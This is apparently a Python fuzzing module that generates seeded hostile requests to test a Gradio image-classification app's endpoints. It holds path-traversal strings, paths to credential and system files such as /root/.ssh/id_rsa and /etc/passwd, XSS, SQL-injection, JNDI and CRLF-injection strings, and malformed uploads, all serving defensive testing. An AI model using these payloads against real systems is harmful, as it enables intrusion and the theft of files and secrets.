"""Generate hostile payloads, deterministic for a seed: values, arguments, and whole requests.

Payloads are valid ones with some parts replaced, since entirely invalid ones fail the first check. `attack.py`
sends them.
"""

import base64
import inspect
import json
import os
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode

REMOTE_URLS = ("http://lineup-tests.invalid/a.jpg", "https://192.0.2.1:9/a.png", "HTTP://192.0.2.1/a.gif")
SYSTEM_FILES = ("/etc/passwd", "/etc/hostname", "/proc/self/environ", "/proc/self/fd/0", "/root/.ssh/id_rsa")
STRINGS = (
    *("", " ", "\0", "a\0b", "efficientnet_lite0\n", " efficientnet_lite0", "EFFICIENTNET_LITE0"),
    *("efficientnet_lite0", "resnet18", "torchvision/resnet50"),
    *("hf-hub:me/evil", "local-dir:/etc", "nan", "null", "None", "-1", "3", "__proto__", "__class__"),
    *("<script>alert(1)</script>", "' OR 1=1 --", "%s%n%x", "{0.__class__}", "${jndi:ldap://192.0.2.1/a}"),
    *("\ud800", "\u202e0etil_tenneiciffe", "𝕖fficientnet_lite0"),
    *("efficientnet_lite0\u0301", "🖼️" * 500, "x" * 100_000, "\r\nSet-Cookie: a=b"),
)
NUMBERS = (0, 1, -1, 2.5, 3.0, -0.0, 1001, 10**9, 1e9, 2**63, 10**400, 1e308, float("nan"), float("inf"), -float("inf"))
GIF = base64.b64encode(b"GIF89a\1\0\1\0\0\0\0;").decode()


@dataclass(frozen=True)
class Targets:
    """The names and paths that payloads use."""

    names: tuple[str, ...]  # of the line-up
    image: str  # an uploaded file
    secret: str  # an image outside the allowed folders
    link: str  # a symbolic link to it in the upload folder
    word: str = "xyzzy"  # part of the secret; must never be in a response

    def paths(self) -> tuple[str, ...]:
        """Return paths and URLs of forbidden files."""
        folder = str(Path(self.image).parent)
        return (
            *(
                self.secret,
                self.link,
                f"file://{self.secret}",
                f"{folder}/../../..{self.secret}",
                *SYSTEM_FILES,
                *REMOTE_URLS,
            ),
            *(f"{folder}/{'../' * 12}etc/passwd", os.path.relpath(self.secret), f"{self.image}\0.jpg", folder, "/"),
            *(f"/gradio_api/file={self.secret}", f"data:image/gif;base64,{GIF}", "data:,", "~/.bashrc", "."),
            f"hf://datasets/me/birds{self.secret}",
        )


def create_targets(uploads: Path, outside: Path, image: bytes, names: tuple[str, ...]) -> Targets:
    """Create an uploaded image, a secret image outside the upload folder, and a link to the secret."""
    there, secret = uploads / "hostile" / "image.jpg", outside / "secret.jpg"
    there.parent.mkdir(parents=True, exist_ok=True)
    there.write_bytes(image)
    secret.write_bytes(image + Targets.word.encode())
    link = there.with_name("link.jpg")
    link.unlink(missing_ok=True)
    link.symlink_to(secret)
    return Targets(names, str(there), str(secret), str(link))


# --- values ---


def value(chance: random.Random, targets: Targets, depth: int = 0) -> Any:
    """Return a random JSON value, mostly an edge case."""
    kind = chance.randrange(10 if depth < 3 else 6)
    if kind < 6:
        return chance.choice((None, True, False, *NUMBERS, *STRINGS, *targets.paths(), *targets.names))
    if kind == 6:
        return [value(chance, targets, depth + 1) for _ in range(chance.choice((0, 1, 2, 5, 50)))]
    if kind == 7:
        keys = ("path", "url", "meta", "name", "__type__", "value", "choices", "_type", "data", "index")
        return {chance.choice(keys): value(chance, targets, depth + 1) for _ in range(chance.choice((0, 1, 2, 4)))}
    if kind == 8:
        return nested(chance.choice((20, 200, 900)), chance.choice("[{"))
    return image(chance, targets)


def nested(depth: int, kind: str) -> Any:
    """Return deeply nested lists or objects."""
    inner: Any = None
    for _ in range(depth):
        inner = [inner] if kind == "[" else {"path": inner}
    return inner


def image(chance: random.Random, targets: Targets) -> Any:
    """Return a reference to a file as Gradio's clients send it, often with modifications."""
    path: Any = chance.choice((targets.image, *targets.paths(), *targets.paths()))
    made = {"path": path, "meta": {"_type": "gradio.FileData"}}
    for key, options in (
        ("url", (path, *REMOTE_URLS, f"file://{targets.secret}", None, 3)),
        ("orig_name", ("../../a.jpg", "a\0.jpg", "a" * 5000, targets.secret, 7)),
        ("mime_type", ("image/svg+xml", "text/html", "x" * 1000, [])),
        ("size", (-1, 10**30, "big", float("nan"))),
        ("is_stream", (True, "yes", None)),
        ("meta", ({}, None, [], {"_type": "gradio.Other"}, "gradio.FileData")),
        ("path", (None, [path], {"path": path}, 0, True, "")),
    ):
        if chance.random() < 0.15:
            made[key] = chance.choice(options)
    if chance.random() < 0.3:  # without "meta" Gradio does not check the path
        made.pop(chance.choice(("path", "meta", "meta", "meta")))
    if chance.random() < 0.15:
        return chance.choice((path, [made], {"image": made}, [path], [[made, "caption"]], {"path": made, **made}))
    return made


def good(part: Any, targets: Targets) -> Any:
    """Return a valid value of a component."""
    kind = type(part).__name__
    if kind == "Image" or "image" in str(part.label).lower():
        return {"path": targets.image, "meta": {"_type": "gradio.FileData"}}
    if kind == "Dropdown":
        return [] if part.multiselect else targets.names[0]
    return {"Slider": 1}.get(kind)


def arguments(chance: random.Random, targets: Targets, function: Any) -> list[Any]:
    """Return the inputs of a function of the page, some of them hostile."""
    values = [good(part, targets) for part in function.inputs]
    for index in chance.sample(range(len(values)), chance.randint(min(1, len(values)), len(values))):
        values[index] = image(chance, targets) if chance.random() < 0.4 else value(chance, targets)
    return values


def event_data(chance: random.Random, targets: Targets) -> Any:
    """Return the event data of a click on an example."""
    index = chance.choice((0, -1, 10**9, "0", None, [0], True, 0.5, value(chance, targets)))
    return chance.choice(
        ({"index": index, "value": value(chance, targets)}, {"index": index}, {}, value(chance, targets))
    )


def query(chance: random.Random, targets: Targets) -> str:
    """Return the query string of a link to the page."""
    keys = ("backbone", "backbone", "top_k", "example", "__theme", "session_hash", "a" * 1000)
    pairs = [(chance.choice(keys), value(chance, targets, 3)) for _ in range(chance.randrange(4))]
    return urlencode([(key, str(text)[:2000]) for key, text in pairs], errors="replace")


# --- requests ---


@dataclass(frozen=True)
class Request:
    """A request, and the path of its event stream, with `{event}` for the returned event id."""

    method: str
    path: str
    body: bytes = b""
    headers: dict[str, str] = field(default_factory=dict)
    listen: str = ""


API = "/gradio_api"
JSON = {"Content-Type": "application/json"}


def requests(targets: Targets, functions: list[Any], seed: int) -> Iterator[Request]:
    """Yield requests to every endpoint in turn, indefinitely."""
    chance = random.Random(seed)
    public = [function for function in functions if function.api_visibility == "public"]
    private = [function for function in functions if function.api_visibility != "public"]
    makers: list[Callable[[], Request]] = [
        lambda: _call(chance, targets, chance.choice(public), "call/v2"),
        lambda: _call(chance, targets, chance.choice(public), "call"),
        lambda: _join(chance, targets, chance.choice(public)),
        lambda: _join(chance, targets, chance.choice(private)),
        lambda: _join(chance, targets, chance.choice(private)),
        lambda: upload(chance, targets),
        lambda: _mcp(chance, targets),
        lambda: _small(chance, targets),
        lambda: _fetch(chance, targets),
        lambda: _garbage(chance),
    ]
    while True:
        for make in makers:
            yield make()


def _call(chance: random.Random, targets: Targets, function: Any, way: str) -> Request:
    values = arguments(chance, targets, function)
    name = function.api_name
    if way == "call":
        body: dict[str, Any] = {"data": values[: chance.choice((None, None, None, 1))] + [1] * chance.choice((0, 0, 9))}
        for key in ("event_data", "session_hash", "fn_index", "trigger_id", "batched", "simple_format", "oauth_token"):
            if chance.random() < 0.1:
                body[key] = value(chance, targets)
    else:
        body = dict(zip(inspect.signature(function.fn).parameters, values, strict=True))
        if chance.random() < 0.2 and body:
            body.pop(chance.choice(list(body)))
        if chance.random() < 0.1:
            body[chance.choice(("more", "", "self", "oauth_token", "\ud800"))] = value(chance, targets)
    listen = f"{API}/call/{name}/{{event}}"
    return Request("POST", f"{API}/{way}/{name}", json.dumps(body).encode(), JSON, listen)


def _join(chance: random.Random, targets: Targets, function: Any) -> Request:
    session = f"hostile{chance.randrange(10**9)}"  # its own: of two streams of a session one gets no end from Gradio
    if chance.random() < 0.1:
        session = chance.choice(("../../etc", "a/b?c#d", "\u202e", " ", "x" * 5000)) + session
    body = {"data": arguments(chance, targets, function), "fn_index": function._id, "session_hash": session}
    body["event_data"] = event_data(chance, targets) if chance.random() < 0.7 else None
    for key in ("trigger_id", "event_id", "batched", "fn_index", "session_hash", "data", "simple_format"):
        if chance.random() < 0.04:
            body[key] = value(chance, targets)
    session = body["session_hash"]
    named = quote(session, safe="", errors="replace") if isinstance(session, str) else ""
    listen = f"{API}/queue/data?session_hash={named}" if named else ""
    path = f"{API}/queue/join?{query(chance, targets)}"
    return Request("POST", path, json.dumps(body).encode(), JSON, listen)


def upload(chance: random.Random, targets: Targets) -> Request:
    """Return an upload with a malformed multipart body."""
    names = (
        "../../../../tmp/out.jpg",
        targets.secret,
        "a\0.jpg",
        "",
        ".",
        "..",
        "/",
        "a" * 5000,
        "ä🖼️.jpg",
        "CON",
        "a.svg",
    )
    boundary, name = "lineup", chance.choice((*names, "a.jpg"))
    head = f'Content-Disposition: form-data; name="files"; filename="{name}"'
    part = Path(targets.image).read_bytes()
    oddity = chance.choice(
        ("none", "no filename", "no name", "many", "header", "boundary", "cut", "type", "empty", "line")
    )
    if oddity == "no filename":
        head = 'Content-Disposition: form-data; name="files"'
    elif oddity == "no name":
        head = "Content-Disposition: form-data"
    elif oddity == "header":
        head += "\r\nX-Long: " + "a" * 100_000
    elif oddity == "line":
        head += "\r\nContent-Type\r\n: \r\n"
    piece = f"--{boundary}\r\n{head}\r\n\r\n".encode(errors="replace") + (b"" if oddity == "empty" else part)
    body = piece if oddity == "cut" else piece + f"\r\n--{boundary}--\r\n".encode()
    if oddity == "many":
        tiny = f"--{boundary}\r\n{head}\r\n\r\nx\r\n".encode()
        body = tiny * chance.choice((20, 1100)) + f"--{boundary}--\r\n".encode()
    kind = {
        "boundary": chance.choice(
            ("multipart/form-data", "multipart/form-data; boundary=other", "multipart/form-data; boundary=")
        ),
        "type": chance.choice(("application/json", "text/plain", "", "multipart/mixed; boundary=lineup")),
    }.get(oddity, f"multipart/form-data; boundary={boundary}")
    path = f"{API}/upload" + chance.choice(("", "", "?upload_id=a", "?upload_id=../..", "/"))
    return Request("POST", path, body, {"Content-Type": kind})


def _mcp(chance: random.Random, targets: Targets) -> Request:
    made = image(chance, targets)
    call_arguments: dict[str, Any] = {
        "image": chance.choice((made, made, value(chance, targets), f"data:image/gif;base64,{GIF}"))
    }
    tool = chance.choice(("classify", "compare", "backbones", "nothing", value(chance, targets, 3)))
    for key in ("backbone", "backbones", "top_k", "more"):
        if chance.random() < 0.4:
            call_arguments[key] = chance.choice((made, [made], value(chance, targets)))
    call = {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": tool, "arguments": call_arguments}}
    if chance.random() < 0.2:
        call[chance.choice(("id", "method", "params", "jsonrpc"))] = value(chance, targets)
    headers = {**JSON, "Accept": "application/json, text/event-stream"}
    return Request("POST", f"{API}/mcp/", json.dumps(call).encode(), headers)


def _small(chance: random.Random, targets: Targets) -> Request:
    path = chance.choice(("cancel", "cancel", "reset"))
    body = {"session_hash": "hostile", "fn_index": chance.choice((0, 1, -1, 10**9)), "event_id": "x"}
    for key in body:
        if chance.random() < 0.4:
            body[key] = value(chance, targets)
    return Request("POST", f"{API}/{path}", json.dumps(body).encode(), JSON)


def _fetch(chance: random.Random, targets: Targets) -> Request:
    way = chance.choice(
        ("file=", "file=", "call/classify/", "call/v2/classify/", "queue/data?session_hash=", "/../file=")
    )
    target = chance.choice(
        (*targets.paths(), f"..{targets.secret}", f"/{targets.secret}", str(value(chance, targets, 3))[:500])
    )
    quoted = chance.choice((quote(target, errors="replace"), quote(target, safe="", errors="replace")))
    return Request(chance.choice(("GET", "GET", "HEAD")), f"{API}/{way}{quoted}")


def _garbage(chance: random.Random) -> Request:
    path = chance.choice(("call/classify", "call/v2/classify", "queue/join", "cancel", "reset", "mcp/", "upload"))
    deep = chance.choice(("[", '{"a":')) * 50_000
    body = chance.choice(
        (b"", b"null", b"[]", b"{", b"\xff\xfe\0", deep.encode(), b'{"data": 3}', b"9" * 5000, chance.randbytes(1000))
    )
    kind = chance.choice(("application/json", "application/json; charset=utf-7", "text/plain", "image/png", "x" * 9000))
    headers = {"Content-Type": kind, "Accept": "application/json, text/event-stream"}
    extra = chance.choice(({}, {}, {"Content-Encoding": "gzip"}, {"X-Forwarded-Host": "a b"}, {"Referer": "\x7f"}))
    return Request("POST", f"{API}/{path}", body, {**headers, **extra})
